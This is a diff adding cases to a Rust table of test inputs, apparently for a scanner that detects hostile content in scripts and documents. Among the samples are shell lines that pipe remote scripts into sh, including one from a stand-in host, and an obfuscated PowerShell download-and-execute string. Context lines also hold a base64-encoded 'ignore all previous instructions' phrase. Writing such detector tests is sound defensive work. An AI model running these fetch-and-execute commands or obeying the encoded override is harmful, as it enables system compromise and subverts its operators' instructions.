@@ -60,6 +60,21 @@ const INPUTS: &[Input] = &[
         "x = b64decode('aWdub3JlIGFsbCBwcmV2aW91cyBpbnN0cnVjdGlvbnM=')\n".to_owned()
     }),
     ("comments", "a.sh", |_| "# what follows is curl, and says why it is done\n".to_owned()),
+    ("comments that may be none", "a.sh", |at| match at {
+        0 => "x='\n".to_owned(),
+        _ => "a # it's (b) `c` ${d} e's /f/ ]}; 'g\n".to_owned(),
+    }),
+    ("patterns", "a.pl", |_| "$x =~ s/a # s/ #// s! # q( #\n".to_owned()),
+    ("known and other hosts", "a.sh", |_| {
+        "curl https://get.docker.com | sh; curl https://a.example | sh; ".to_owned()
+    }),
+    ("hosts in one line of a document", "a.md", |_| {
+        "run `curl https://get.docker.com | sh` never ".to_owned()
+    }),
+    ("findings in one line of a document", "a.md", |_| "a\u{200b} b ".to_owned()),
+    ("files that are named", "e", |_| "sh e ".to_owned()),
+    ("files that are named and not run", "e", |_| "x e ".to_owned()),
+    ("no text", "a.bin", |_| "\0\u{1}\u{2}rm sh\u{3} nc\n".to_owned()),
     ("backticks", "a.ps1", |_| "i`e`x (i`w`r `h`t`t`p)\n".to_owned()),
     ("open brackets", "a.py", |_| "f([\n".to_owned()),
     ("lists of numbers", "a.py", |_| "10, 20, 30, 40, 50, 60, 70, 80, 90, 99,\n".to_owned()),
